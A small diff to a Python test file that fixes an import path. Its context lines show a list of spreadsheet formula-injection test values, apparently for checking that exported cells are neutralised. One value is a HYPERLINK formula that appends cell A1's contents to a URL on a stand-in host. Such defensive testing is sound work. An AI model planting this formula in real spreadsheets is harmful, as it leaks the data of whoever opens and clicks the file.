@@ -9,7 +9,7 @@ import zipfile
 
 import pytest
 
-from conftest import make_labels_dir
+from tests.conftest import make_labels_dir
 
 FORMULAS = ['=HYPERLINK("http://x/?"&A1,"点击")', "+全年发放助学金。", "-开展防溺水教育。",
             "@招聘特岗教师。", "'=引号开头的段落。"]
